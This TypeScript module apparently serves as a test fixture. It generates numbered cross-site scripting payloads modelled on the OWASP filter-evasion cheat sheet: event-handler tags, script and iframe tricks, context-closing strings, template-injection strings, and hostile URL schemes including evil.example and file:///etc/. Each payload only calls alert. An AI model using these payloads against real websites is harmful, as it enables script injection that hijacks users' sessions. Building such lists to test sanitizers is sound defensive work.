// Texts that would run a script on a page that took them for markup, for attributes, for addresses or for code. Each
// has a number of its own, by which it is found again. Kinds of attack after the OWASP XSS Filter Evasion Cheat Sheet.

/** What an attribute that hears an event would run. */
const EVENTS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart'];

const ELEMENTS = [
  (event: string, code: string) => `<img src=x ${event}=${code}>`,
  (event: string, code: string) => `<svg ${event}=${code}>`,
  (event: string, code: string) => `<body ${event}="${code}">`,
  (event: string, code: string) => `<input autofocus ${event}='${code}'>`,
  (event: string, code: string) => `<details open ${event}=${code}>`,
  (event: string, code: string) => `<video src=x ${event}=${code}>`,
  (event: string, code: string) => `<a tabindex=1 autofocus ${event}=${code}>x</a>`,
];

/** What would close that in which the text stands. */
const ENDS = ['', '"', "'", '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '}}'];

const SCRIPTS = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `<SCRIPT SRC=data:text/javascript,${code}></SCRIPT>`,
  (code: string) => `<iframe srcdoc="<script>parent.${code}</script>">`,
  (code: string) => `<iframe src="javascript:parent.${code}">`,
  (code: string) => `<object data="data:text/html,<script>${code}</script>">`,
  (code: string) => `<math><mtext><style><img src=x onerror=${code}>`,
  (code: string) => `<form action="javascript:${code}"><button>x</button></form>`,
  (code: string) => `<base href="javascript:${code}//">`,
  (code: string) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  (code: string) =>
    `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${code})}">`,
  (code: string) => `<style>@import 'javascript:${code}';</style>`,
  (code: string) => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  (code: string) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code: string) => `\${${code}}`,
  (code: string) => `{{constructor.constructor('${code}')()}}`,
  (code: string) => `';${code}//`,
  (code: string) => `";${code}//`,
  (code: string) => `\`;${code}//`,
];

const code = (number: number) => `alert(${number})`;

/** The texts, each with the number that it would show. */
export const PAYLOADS: readonly string[] = [
  ...ELEMENTS.flatMap((element) => EVENTS.map((event) => (run: string) => element(event, run))),
  ...SCRIPTS,
  ...ENDS.flatMap((end) => [
    (run: string) => `${end}<script>${run}</script>`,
    (run: string) => `${end}<img src=x onerror=${run}>`,
    (run: string) => `${end} onmouseover=${run} x=`,
    (run: string) => `${end}<svg><script>${run}</script>`,
    (run: string) => `${end}<a href="javascript:${run}">x</a>`,
    (run: string) => `${end}<xmp><img src=x onerror=${run}>`,
    (run: string) => `${end}<noscript><img src=x onerror=${run}>`,
    (run: string) => `${end}<template><script>${run}</script></template>`,
    (run: string) => `${end}<img src="x" onerror="${run}" onload="${run}">`,
    (run: string) => `${end}<ScRiPt>${run}</sCrIpT>`,
    (run: string) => `${end}<img/src=x/onerror=${run}>`,
    (run: string) => `${end}<!--<img src="--><img src=x onerror=${run}//">`,
    (run: string) => `${end}<select><option><script>${run}</script></option></select>`,
  ]),
].map((make, number) => make(code(number)));

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'javascript://example.org/%0A',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  '//evil.example/',
  'https://user:secret@evil.example/',
  'file:///etc/',
  'blob:https://example.org/',
];

/** Addresses that must lead nowhere. */
export const ADDRESSES: readonly string[] = SCHEMES.map(
  (scheme, number) => `${scheme}${code(10_000 + number)}`,
);
